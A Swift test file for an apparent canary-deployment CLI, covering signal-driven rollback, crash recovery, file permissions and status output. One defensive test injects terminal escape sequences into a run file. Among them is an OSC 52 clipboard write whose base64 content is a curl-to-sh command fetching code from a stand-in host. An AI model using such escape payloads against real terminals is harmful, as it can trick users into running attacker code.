import Foundation
import RampartEngine
import RampartTestSupport
import Testing

@testable import RampartCore

/// Every way a user or the system ends a headless run puts traffic back on the baseline, records
/// the decision and exits 3: SIGTERM, SIGHUP (a closed terminal, a dropped ssh session) and two
/// Ctrl-C in a row, the second of which once exited at once with the flag left at 10 %.
struct SignalTests {
    static func flagWeight(_ path: String) -> Double? {
        guard let data = FileManager.default.contents(atPath: path),
            let o = try? JSONSerialization.jsonObject(with: data) as? [String: Any]
        else { return nil }
        return (o["canary_weight"] as? NSNumber)?.doubleValue
    }

    /// The weight the router last applied: the flag document, or what the command wrote.
    static func appliedWeight(_ dir: String, router: String) -> Double? {
        if router == "file" { return flagWeight(dir + "/flags.json") }
        return (try? String(contentsOfFile: dir + "/weight.txt", encoding: .utf8)).flatMap {
            Double($0.trimmingCharacters(in: .whitespacesAndNewlines))
        }
    }

    static func routerYAML(_ router: String) -> String {
        router == "file" ? "{ kind: file, path: flags.json }" : #"{ kind: command, run: "echo {weight} > weight.txt", timeout: 10s }"#
    }

    /// A router under test: the canary's router and traffic lines, and how to read the weight
    /// it applied. For nginx, a real nginx whose upstream file Rampart rewrites and reloads.
    struct Router {
        var yaml: String
        var weight: @Sendable () async -> Double?
        var nginx: NginxDaemon?
        /// What the run needs beyond the test's own environment (AWS credentials for moto).
        var environment: [String: String] = [:]

        static func make(_ kind: String, dir: String) async throws -> Router {
            if kind == "lambda_alias" {
                // Lambda on moto (unchecked: moto 5.2.1 refuses signed GetAlias while checking).
                let lambda = try await MotoLambda.create(on: try await MotoServer.unchecked())
                let yaml = """
                    router: { kind: lambda_alias, function: \(lambda.function), alias: live, baseline_version: "1", candidate_version: "2", endpoint: "\(lambda.moto.endpoint)" }
                    """
                return Router(yaml: yaml, weight: { await lambda.candidatePercent() }, environment: lambda.moto.processEnvironment)
            }
            if kind == "appconfig" {
                // AppConfig on moto, with the stand-in for the deployments moto lacks; the weight is
                // what the app's fleet reads through AppConfig Data (0 before the first deployment).
                let s = try await AppConfigStandIn.shared()
                let flag = try await s.makeFlag()
                return Router(
                    yaml: "router: \(flag.router(endpoint: s.endpoint))", weight: { (try? await s.servedWeight(flag)).map { $0 ?? 0 } },
                    environment: s.moto.processEnvironment)
            }
            guard kind == "nginx" else {
                return Router(yaml: "router: \(SignalTests.routerYAML(kind))", weight: { SignalTests.appliedWeight(dir, router: kind) })
            }
            let meters = (try await Daemons.freePort(), try await Daemons.freePort())
            let b = "127.0.0.1:\(meters.0)", c = "127.0.0.1:\(meters.1)"
            let nginx = try await NginxDaemon.start(
                upstream: NginxRouter.render(upstream: "app", baseline: b, candidate: c, percent: 0, at: "start"), proxyTo: "app")
            // Sim traffic is judged in-process: nginx gets the weights, the addresses need no server.
            let yaml = """
                router: { kind: nginx, path: \(nginx.dir)/upstream.conf, upstream: app, baseline: "\(b)", candidate: "\(c)", test: "\(nginx.control) -t", reload: "\(nginx.control) -s reload", timeout: 60s }
                """
            let upstreamFile = nginx.dir + "/upstream.conf"
            return Router(yaml: yaml, weight: { nginxWeight(upstreamFile) }, nginx: nginx)
        }
    }

    /// Writes a spec whose canary holds at 10 % for an hour (with `before`: build and gates
    /// ahead of it, `after`: notify channels), starts `rampart run` headless in `dir`, and
    /// returns once the router has applied 10 %.
    static func startHeldCanary(_ name: String, router: Router, in dir: String, before: String = "", after: String = "") async throws -> Process {
        let examples = CLI.repository + "/examples"
        let spec = """
            format: 1
            name: \(name)
            baseline: { provider: sim, model: m, version: "1.0" }
            candidate: { provider: sim, model: m, version: "1.1" }
            \(before)
            canary:
              \(router.yaml)
              traffic: { source: sim, rate: 20, dataset: \(examples)/datasets/golden.jsonl }
              steps:
                - { weight: 10, bake: 1h }
              metrics:
                - { metric: error_rate, max_increase: 0.05 }
            \(after)
            """
        try spec.write(toFile: dir + "/spec.yaml", atomically: true, encoding: .utf8)
        let p = try CLI.start(["run", "spec.yaml", "--headless", "--no-cache", "--record", "run.jsonl"], in: dir, environment: router.environment)
        // Readiness: the router has sent 10 % to the candidate (the deadline bounds a failure).
        let deadline = Date().addingTimeInterval(300)
        while await router.weight() != 10, Date() < deadline { try await Task.sleep(for: .milliseconds(100)) }
        return p
    }

    /// The candidate's share nginx was last given, from the header line Rampart writes.
    static func nginxWeight(_ path: String) -> Double? {
        guard let text = try? String(contentsOfFile: path, encoding: .utf8),
            let range = text.range(of: #"candidate at [0-9.]+%"#, options: .regularExpression)
        else { return nil }
        return Double(text[range].dropFirst("candidate at ".count).dropLast())
    }

    @Test(arguments: [[SIGTERM], [SIGHUP], [SIGINT, SIGINT]], ["file", "command", "nginx", "lambda_alias", "appconfig"])
    func aSignalMidCanaryPutsTrafficBackAndRecordsIt(_ signals: [Int32], _ routerKind: String) async throws {
        let dir = CLI.temporaryDirectory()
        let router = try await Router.make(routerKind, dir: dir)
        defer { router.nginx?.stop() }
        let p = try await Self.startHeldCanary("signalled", router: router, in: dir)
        #expect(await router.weight() == 10)
        for sig in signals { kill(p.processIdentifier, sig) }
        await CLI.exit(of: p)
        #expect(p.terminationReason == .exit && p.terminationStatus == 3, "\(p.terminationReason) \(p.terminationStatus)")
        #expect(await router.weight() == 0, "traffic is back on the baseline")
        let recording = try RunFileCodec.read(file: dir + "/run.jsonl")
        #expect(recording.outcome?.outcome == .aborted)
        let why = signals[0] == SIGHUP ? "SIGHUP" : (signals[0] == SIGTERM ? "SIGTERM" : "SIGINT")
        #expect(recording.outcome?.reason.contains(why) == true, "\(recording.outcome?.reason ?? "")")
    }
}

/// A run file is input from outside: replaying a hostile one must not drive the terminal.
struct HostileReplayTests {
    @Test func escapeSequencesInARunFileNeverReachTheTerminal() async throws {
        let dir = CLI.temporaryDirectory()
        let sample = try String(contentsOfFile: CLI.repository + "/sample-runs/operator-rollback.jsonl", encoding: .utf8)
        // Window title, OSC 52 clipboard write, clear screen, a bell, right-to-left override, C1 CSI.
        let payload = #"\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\u0007\u001b[2J\u001b[H\u0007\u202eevil\u009b31m"#
        let hostile =
            sample
            .replacingOccurrences(of: "support tickets about wrong refund amounts are spiking", with: "spiking " + payload)
            .replacingOccurrences(of: #""grace""#, with: #""grace\#(payload)""#)
        try hostile.write(toFile: dir + "/hostile.jsonl", atomically: true, encoding: .utf8)
        let r = try await CLI.run(["replay", "hostile.jsonl", "--headless"], in: dir)
        #expect(r.status == 2)
        let bytes = Array((r.stdout + r.stderr).utf8)
        #expect(!bytes.contains(0x1B), "no ESC reaches the terminal")
        #expect(!bytes.contains(0x07), "no BEL")
        #expect(!(r.stdout + r.stderr).unicodeScalars.contains { $0.value == 0x202E || $0.value == 0x9B })
        #expect(!r.stdout.contains("]52;") && !r.stdout.contains("]0;pwned"), "the sequences are removed whole, not just their ESC")
        #expect(r.stdout.contains("spiking evil"), "the readable text stays")
        let show = try await CLI.run(["runs", "show", "hostile.jsonl"], in: dir)
        #expect(!Array((show.stdout + show.stderr).utf8).contains(0x1B))
    }

    @Test func absurdTimesAndIndicesInARunFileAreShownNotCrashedOn() async throws {
        let dir = CLI.temporaryDirectory()
        let sample = try String(contentsOfFile: CLI.repository + "/sample-runs/operator-rollback.jsonl", encoding: .utf8)
        var lines = sample.split(separator: "\n").map(String.init)
        // An event at t = 1e19, a quality index far out of range, an outcome at t = 1e300.
        if let i = lines.firstIndex(where: { $0.contains(#""event":"weight""#) }) {
            lines[i] = lines[i].replacingOccurrences(of: #""t":"#, with: #""t":1e19,"x":"#)
        }
        if let i = lines.firstIndex(where: { $0.contains(#""quality":[["#) }) {
            lines[i] = lines[i].replacingOccurrences(of: #""quality":[["#, with: #""quality":[[1e300,0.5],[-4,0.5],["#)
        }
        lines[lines.count - 1] = lines[lines.count - 1].replacingOccurrences(of: #""t":"#, with: #""t":1e300,"y":"#)
        try lines.joined(separator: "\n").appending("\n").write(toFile: dir + "/absurd.jsonl", atomically: true, encoding: .utf8)
        for args in [
            ["replay", "absurd.jsonl", "--headless"], ["runs", "show", "absurd.jsonl"],
            ["replay", "absurd.jsonl", "--judge", CLI.repository + "/examples/demo.yaml"],
        ] {
            let r = try await CLI.run(args, in: dir)
            #expect(r.status < 128, "\(args): exit \(r.status) \(r.stderr.suffix(300))")
        }
    }
}

/// Run files, the response cache (model answers) and their folders are the owner's alone.
struct PrivateStateTests {
    @Test func stateIsOwnerOnly() async throws {
        let dir = CLI.temporaryDirectory()
        // A .rampart left by an older version with the usual umask is narrowed too.
        try FileManager.default.createDirectory(atPath: dir + "/.rampart", withIntermediateDirectories: true, attributes: [.posixPermissions: 0o755])
        let r = try await CLI.run(["run", CLI.repository + "/examples/demo.yaml", "--headless", "--speed", "max"], in: dir)
        #expect(r.status == 0)
        func mode(_ path: String) -> Int? {
            (try? FileManager.default.attributesOfItem(atPath: dir + "/" + path)[.posixPermissions] as? NSNumber)?.intValue
        }
        #expect(mode(".rampart") == 0o700)
        #expect(mode(".rampart/runs") == 0o700 && mode(".rampart/cache") == 0o700)
        #expect(mode(".rampart/cache/responses.jsonl") == 0o600)
        let runs = try FileManager.default.contentsOfDirectory(atPath: dir + "/.rampart/runs")
        #expect(!runs.isEmpty && runs.allSatisfy { mode(".rampart/runs/" + $0) == 0o600 })
    }
}

/// `kill -9` cannot be caught, and a crash (SIGSEGV, SIGABRT) cannot safely run a router from
/// its signal handler: the run's lock stays behind, the next run refuses to start a canary,
/// and `rampart recover` puts the traffic back (with the router the run used) and completes
/// the record.
struct CrashRecoveryTests {
    @Test(arguments: [SIGKILL, SIGSEGV, SIGABRT], ["file", "command", "nginx", "lambda_alias", "appconfig"])
    func afterACrashTheNextRunRefusesUntilRecovered(_ signal: Int32, _ routerKind: String) async throws {
        let dir = CLI.temporaryDirectory()
        let router = try await SignalTests.Router.make(routerKind, dir: dir)
        defer { router.nginx?.stop() }
        let p = try await SignalTests.startHeldCanary(
            "killed", router: router, in: dir, after: "notify:\n  - { kind: file, path: notifications.jsonl }")
        kill(p.processIdentifier, signal)
        await CLI.exit(of: p)
        #expect(p.terminationReason == .uncaughtSignal || p.terminationStatus != 0, "the process died of the signal")
        #expect(await router.weight() == 10, "the crash leaves the weight where it was")

        let refused = try await CLI.run(
            ["run", "spec.yaml", "--headless", "--speed", "max", "--no-cache", "--record", "second.jsonl"], in: dir, environment: router.environment)
        #expect(refused.status == 69)
        #expect(refused.stderr.contains("ended without recording an outcome") && refused.stderr.contains("rampart recover"))
        #expect(!FileManager.default.fileExists(atPath: dir + "/second.jsonl"), "nothing started")
        let listed = try await CLI.run(["runs"], in: dir)
        #expect(listed.stderr.contains("run.jsonl") && listed.stderr.contains("rampart recover"))

        let recovered = try await CLI.run(["recover", "--operator", "oncall"], in: dir, environment: router.environment)
        #expect(recovered.status == 0, "\(recovered.stdout)\(recovered.stderr)")
        #expect(await router.weight() == 0, "traffic back on the baseline")
        let recording = try RunFileCodec.read(file: dir + "/run.jsonl")
        #expect(recording.outcome?.outcome == .aborted)
        #expect(recording.outcome?.reason.contains("recovered after crash by oncall") == true)
        let notes = (try? String(contentsOfFile: dir + "/notifications.jsonl", encoding: .utf8)) ?? ""
        #expect(notes.contains("recovered after crash"))

        let again = try await CLI.run(["recover"], in: dir, environment: router.environment)
        #expect(again.status == 0 && again.stdout.contains("nothing to recover"))
        let next = try await CLI.run(
            ["run", "spec.yaml", "--headless", "--speed", "max", "--no-cache", "--record", "third.jsonl", "--command-at", "10s:abort"], in: dir,
            environment: router.environment)
        #expect(next.status == 3, "the next run starts once the traffic is accounted for: \(next.stderr)")
    }
}

/// `rampart status` reads a running engine's state over the control socket.
struct StatusCommandTests {
    @Test func statusListsStagesInPipelineOrder() async throws {
        let dir = CLI.temporaryDirectory()
        let examples = CLI.repository + "/examples"
        let build = """
            build:
              - { name: package, run: "true" }
            gates:
              - { name: golden, kind: golden, dataset: \(examples)/datasets/golden.jsonl, thresholds: { min_score: 0.0 } }
            """
        let p = try await SignalTests.startHeldCanary("watched", router: try await SignalTests.Router.make("file", dir: dir), in: dir, before: build)
        let status = try await CLI.run(["status"], in: dir)
        kill(p.processIdentifier, SIGTERM)
        await CLI.exit(of: p)
        #expect(status.status == 0, "\(status.stderr)")
        let line = status.stdout.split(separator: "\n").first { $0.hasPrefix("stages") }.map(String.init) ?? ""
        // Not alphabetical (build, canary, gate:golden, promote): the order the pipeline runs them.
        #expect(line == "stages     build passed, gate:golden passed, canary running, promote pending", "\(status.stdout)")
        #expect(status.stdout.contains("weight     10%, step 1 of 1"))
    }
}

/// A run whose lock went with its machine (a CodeBuild container stopped mid-canary) leaves
/// nothing for `rampart recover` to find: `rampart recover --spec` asks the spec's router where
/// traffic is, puts a split canary back on the baseline, and leaves a finished promotion alone.
struct LocklessRecoveryTests {
    @Test(arguments: ["file", "command", "lambda_alias", "appconfig"])
    func aSplitLeftByAMachineThatIsGoneGoesBackToTheBaseline(_ routerKind: String) async throws {
        let dir = CLI.temporaryDirectory()
        let router = try await SignalTests.Router.make(routerKind, dir: dir)
        let p = try await SignalTests.startHeldCanary("gone", router: router, in: dir)
        kill(p.processIdentifier, SIGKILL)
        await CLI.exit(of: p)
        #expect(await router.weight() == 10)

        // While the crashed run's lock is here, its own recovery is the one to use.
        let refused = try await CLI.run(["recover", "--spec", "spec.yaml"], in: dir, environment: router.environment)
        #expect(refused.status == 64 && refused.stderr.contains("left its lock here"), "\(refused.stderr)")
        #expect(await router.weight() == 10, "nothing touched")

        // The machine is gone: so is the lock.
        try FileManager.default.removeItem(atPath: dir + "/.rampart/live")
        let recovered = try await CLI.run(["recover", "--spec", "spec.yaml", "--operator", "oncall"], in: dir, environment: router.environment)
        #expect(recovered.status == 0, "\(recovered.stdout)\(recovered.stderr)")
        #expect(await router.weight() == 0, "traffic back on the baseline")
        let readable = routerKind != "command"
        let was = readable ? "it was at 10%" : "it cannot read its state back"
        #expect(recovered.stdout.contains("recovered by oncall without a lock") && recovered.stdout.contains(was), "\(recovered.stdout)")

        if readable {
            let again = try await CLI.run(["recover", "--spec", "spec.yaml"], in: dir, environment: router.environment)
            #expect(again.status == 0 && again.stdout.contains("nothing to recover") && again.stdout.contains("baseline"), "\(again.stdout)")
        }
        if routerKind == "lambda_alias" || routerKind == "appconfig" {
            // A promotion that finished before the machine went: the candidate keeps its traffic.
            let inputs = try RunAssembly.load(file: dir + "/spec.yaml")
            let canary = try #require(inputs.spec.canary)
            let r = try #require(
                RunAssembly.router(
                    canary.router, pipeline: inputs.spec, environment: router.environment, redactor: Redactor(environment: [:], named: [])))
            try await r.setWeight(100)
            let promoted = try await CLI.run(["recover", "--spec", "spec.yaml"], in: dir, environment: router.environment)
            #expect(promoted.status == 0 && promoted.stdout.contains("a finished promotion; left as it is"), "\(promoted.stdout)")
            #expect(await router.weight() == 100)
        }
    }

    @Test func aSpecThatCannotBeReadIsRefusedWithItsCode() async throws {
        let dir = CLI.temporaryDirectory()
        try "format: 1\nname: [".write(toFile: dir + "/spec.yaml", atomically: true, encoding: .utf8)
        let r = try await CLI.run(["recover", "--spec", "spec.yaml"], in: dir)
        #expect(r.status == 65 && r.stderr.contains("cannot read spec.yaml"), "\(r.stderr)")
        let both = try await CLI.run(["recover", "run.jsonl", "--spec", "spec.yaml"], in: dir)
        #expect(both.status == 64 && both.stderr.contains("not both"), "\(both.stderr)")
    }
}
